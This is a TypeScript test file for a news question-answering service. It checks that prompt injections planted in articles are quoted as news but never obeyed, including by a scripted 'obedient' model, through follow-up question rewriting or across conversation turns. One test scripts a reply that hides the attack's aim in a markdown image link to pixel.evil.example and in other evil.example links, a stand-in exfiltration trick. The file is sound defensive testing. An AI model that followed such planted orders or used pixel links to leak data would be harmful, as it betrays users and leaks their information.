import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { askResponseSchema, type AskResponse } from "../../core/contract/ask.ts";
import {
  INJECTED_ARTICLES,
  INJECTIONS,
  LINK_OR_MARKUP,
  type Injection,
} from "../support/injections.ts";
import { startRealServer, type RealServer } from "../support/real-server.ts";
import type { Wire } from "../support/wires/model-wire.ts";
import { openOpenAiWire, type OpenAiBody } from "../support/wires/openai-wire.ts";
import { createTurnQueue } from "../support/wires/turn-queue.ts";
import { callTool } from "../support/wires/turns.ts";
import { postJson } from "../server/http/support/requests.ts";
import { quotesOf } from "./support/answers.ts";
import { readAsMachine } from "./support/read-as-machine.ts";
import { says } from "./support/scripted-model.ts";

const CASES = INJECTIONS.map((attack) => [attack.id, attack] as const);
const DETECTED = CASES.filter(([, { undetected }]) => undetected !== true);
const UNDETECTED = CASES.filter(([, { undetected }]) => undetected === true);

async function ask(
  url: string,
  { question }: Injection,
  fields: Readonly<Record<string, unknown>> = {},
): Promise<AskResponse> {
  const response = await postJson(`${url}/ask`, { question, ...fields });
  return askResponseSchema.parse(await response.json());
}

/** What of the attack's aim stands in a text, letter case aside. */
function obeyedIn(text: string, { obeyed }: Injection): readonly string[] {
  const lower = text.toLowerCase();
  return obeyed.filter((aim) => lower.includes(aim.toLowerCase()));
}

/** The article's own sentences that hold the attack's aim, each with the marker of its source. */
function quoteOrder(attack: Injection): string {
  return (attack.articleText.match(/[^.\n]*\.(?=\s)/gu) ?? [])
    .filter((sentence) => obeyedIn(sentence, attack).length > 0)
    .map((sentence) => `${sentence.trim().slice(0, -1)} [1].`)
    .join(" ");
}

describe("an article that gives orders to machines", () => {
  let server: RealServer;
  beforeAll(async () => {
    server = await startRealServer(INJECTED_ARTICLES);
  });

  it.each(CASES)("is quoted for its news, and not obeyed: %s", async (_id, attack) => {
    const answer = await ask(server.url, attack);
    expect(answer.answer).toContain(attack.truth);
    expect(obeyedIn(`${answer.answer}\n${quotesOf(answer)}`, attack)).toEqual([]);
    expect(answer.answer).not.toMatch(LINK_OR_MARKUP);
  });
});

describe("a language model that obeys whatever it reads", () => {
  const turns = createTurnQueue();
  let wire: Wire<OpenAiBody>;
  let server: RealServer;
  beforeAll(async () => {
    wire = await openOpenAiWire(turns.next);
    server = await startRealServer(INJECTED_ARTICLES, {
      MANJAM_LLM: "openai:obedient",
      MANJAM_LLM_BASE_URL: wire.baseUrl,
    });
  });
  afterAll(() => wire.close());
  beforeEach(() => wire.forget());

  it.each(CASES)("cannot make its answer obey: %s", async (_id, attack) => {
    turns.replaceWith([says(attack.modelObeys)]);
    const { answer, status } = await ask(server.url, attack);
    expect(status).toBe("answered");
    expect(obeyedIn(answer, attack)).toEqual([]);
    expect(answer).not.toMatch(LINK_OR_MARKUP);
  });

  it.each(CASES)("cannot hide it where no sentence is: %s", async (_id, attack) => {
    const [aim = ""] = attack.obeyed;
    turns.replaceWith([
      says(
        `![${aim}](https://pixel.evil.example/?${aim})\n\n\`\`\`\n${aim}\n\`\`\`\n\n<!-- ${aim} --><b title="${aim}"></b>\n\n[1]: https://evil.example "${aim}"\n\n${attack.truth} [1].`,
      ),
    ]);
    const { answer } = await ask(server.url, attack);
    expect(obeyedIn(answer, attack)).toEqual([]);
    expect(answer).not.toMatch(LINK_OR_MARKUP);
  });

  it.each(DETECTED)("is not shown the order, found or searched for: %s", async (_id, attack) => {
    turns.replaceWith([callTool("search_articles", { query: attack.question }), says("NOT_FOUND")]);
    await ask(server.url, attack, { topK: 1 });
    const messages = wire.requests.at(-1)?.body.messages ?? [];
    expect(messages.map(({ role }) => role)).toContain("tool");
    const shown = messages
      .filter(({ role, content }) => role === "tool" || content.includes("<source id="))
      .map(({ content }) => content.slice(Math.max(0, content.indexOf("<source id="))))
      .join("\n");
    expect(shown).toContain(attack.truth);
    expect(obeyedIn(`${shown}\n${readAsMachine(shown)}`, attack)).toEqual([]);
  });

  it.each(UNDETECTED)("is not led by what an earlier answer quotes: %s", async (id, attack) => {
    turns.replaceWith([says(quoteOrder(attack))]);
    const { conversationId, answer: earlier } = await ask(server.url, attack);
    // As the words of its article it may be told, but for a wallet.
    expect(obeyedIn(earlier, attack)).toHaveLength(id.endsWith("wallet") ? 0 : 1);
    const next = CASES.find(
      ([other, { language }]) => other !== id && language === attack.language,
    );
    if (next === undefined) throw new Error("no other attack");
    turns.replaceWith([says(next[1].question), says(attack.modelObeys)]);
    const { answer } = await ask(server.url, next[1], { conversationId });
    expect(wire.requests).toHaveLength(3);
    expect(obeyedIn(answer, attack)).toEqual([]);
  });

  it.each(UNDETECTED)(
    "cannot put it into the question that it rewrites: %s",
    async (_id, attack) => {
      turns.replaceWith([says(`${attack.truth} [1].`)]);
      const { conversationId } = await ask(server.url, attack);
      turns.replaceWith([
        says(attack.modelObeys.replaceAll(/ ?\[\d+\]/gu, "")),
        says(attack.modelObeys),
      ]);
      const followUp = { ...attack, question: attack.language === "ar" ? "ولماذا؟" : "And why?" };
      const { standaloneQuestion, answer } = await ask(server.url, followUp, { conversationId });
      expect(obeyedIn(`${standaloneQuestion}\n${answer}`, attack)).toEqual([]);
    },
  );
});
